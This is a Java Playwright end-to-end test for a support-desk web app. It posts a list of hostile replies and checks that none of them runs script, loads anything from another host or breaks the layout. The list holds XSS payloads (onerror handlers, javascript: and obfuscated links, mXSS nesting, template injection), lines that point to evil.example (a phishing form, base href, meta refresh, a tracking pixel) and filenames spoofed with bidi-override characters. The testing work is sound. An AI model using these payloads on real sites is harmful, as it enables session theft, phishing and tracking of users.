package dev.casebook.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.FilePayload;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What an attacker writes is text to its reader: no script runs, nothing is fetched from elsewhere, no layout breaks. */
class HostileContentTests {

    /** Each vector tries to call {@code pwned()} or to fetch from a host that is not the desk's. */
    private static final List<String> VECTORS = List.of(
            "<script>pwned()</script>",
            "<img src=x onerror=pwned()>",
            "<svg/onload=pwned()>",
            "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
            "<iframe srcdoc=\"<script>parent.pwned()</script>\"></iframe>",
            "<details open ontoggle=pwned()>x</details>",
            "<input autofocus onfocus=pwned()>",
            "<video><source onerror=pwned()></video>",
            "<body onload=pwned()>",
            "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
            "<form action=https://evil.example/><button>Sign in again</button></form>",
            "<base href=https://evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
            "<link rel=stylesheet href=https://evil.example/a.css>",
            "<style>@import 'https://evil.example/b.css'; body { display: none }</style>",
            "<p style=\"position:fixed;inset:0;background:red\">over everything</p>",
            "![pixel](https://evil.example/pixel.png)",
            "![x](x\"onerror=\"pwned())",
            "[click](javascript:pwned())",
            "[click](JaVa&#x53;cript:pwned())",
            "[click](data:text/html,<script>opener.pwned()</script>)",
            "<a href=\"javascript:pwned()\">click</a>",
            "<https://evil.example/\"onmouseover=\"pwned()>",
            "| a |\n|---|\n| <img src=x onerror=pwned()> |",
            "```\"><script>pwned()</script>\nx\n```",
            "`" + "unbreakable".repeat(60) + "`",
            "W".repeat(600),
            "https://shop.example/" + "path".repeat(150),
            "\u202Egnp.exe\u202C and \u2066isolated\u2069",
            "Z" + "\u0310\u0334\u0358".repeat(120),
            "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67".repeat(80),
            "{{constructor.constructor('pwned()')()}} ${pwned()}");

    private static final String NAME =
            "<img src=x onerror=pwned()> \u202Egpj.exe " + "long".repeat(40) + " \uD83D\uDCA5.png";

    private final Desk desk = Desk.running();

    @ParameterizedTest
    @CsvSource({"bella,sam,DESKTOP_LIGHT", "bella,sam,PHONE_LIGHT", "sam,bella,DESKTOP_DARK", "sam,bella,PHONE_DARK"})
    void nothingRunsNothingIsFetchedNothingBreaks(String attacker, String victim, Look look) throws IOException {
        var subject = "\"><script>pwned()</script>" + Sentences.unique(" Sub") + "W".repeat(90);
        var id = new Api(desk, "bella").opens(subject);
        var writer = new Api(desk, attacker);
        for (var vector : VECTORS) {
            var replied = writer.post("/tickets/" + id + "/replies", Sentences.reply(vector));
            assertThat(replied.status()).as(replied.toString()).isEqualTo(201);
        }
        try (var reader = Visitor.signedIn(desk, victim, look)) {
            var page = reader.page();
            page.addInitScript(
                    "window.pwned = () => { window.hit = true; };"
                            + "addEventListener('securitypolicyviolation', (e) => (window.violations ??= []).push(e.violatedDirective));");
            var elsewhere = requestsElsewhere(page);
            page.navigate("/dashboard/support/" + id);
            reader.seesHeading(subject);
            page.getByTestId("file-input")
                    .setInputFiles(new FilePayload(
                            NAME, "text/html", "<script>pwned()</script>".getBytes(StandardCharsets.UTF_8)));
            assertThat(page.locator("li[data-phase]").first()).containsText("uploaded", Visitor.PATIENT);
            page.getByLabel("Your reply").fill(String.join("\n\n", VECTORS));
            reader.button("Preview").click();
            reader.keepsPicture(victim + "-hostile-preview");
            reader.button("Send reply").click();
            assertThat(page.locator("a[href*='/content']").first()).isVisible(Visitor.PATIENTLY);
            assertThat(page.getByText("click", new Page.GetByTextOptions().setExact(true))
                            .evaluateAll("all => all.map((click) => click.getAttribute('href')).filter(Boolean)"))
                    .isEqualTo(List.of());
            page.locator("article[id^='entry-']").nth(2).scrollIntoViewIfNeeded();
            reader.keepsPicture(victim + "-hostile-thread");
            stayedUnharmed(page);
            page.navigate("/dashboard/support");
            reader.seesHeading("Support");
            reader.keepsPicture(victim + "-hostile-list");
            stayedUnharmed(page);
            page.navigate("/dashboard/history?ticket=" + id);
            reader.seesHeading("History");
            reader.keepsPicture(victim + "-hostile-history");
            stayedUnharmed(page);
            assertThat(elsewhere).isEmpty();
            assertThat(page.url()).startsWith(desk.origin().toString());
        }
    }

    private static void stayedUnharmed(Page page) {
        assertThat(page.evaluate("window.hit ?? false")).isEqualTo(false);
        assertThat(page.evaluate("window.violations ?? []")).isEqualTo(List.of());
    }

    private static List<String> requestsElsewhere(Page page) {
        var elsewhere = new CopyOnWriteArrayList<String>();
        page.context().onRequest(request -> {
            var host = URI.create(request.url().split("[?#]", 2)[0]).getHost();
            if (host != null && !host.equals("127.0.0.1")) {
                elsewhere.add(request.url());
            }
        });
        return elsewhere;
    }
}
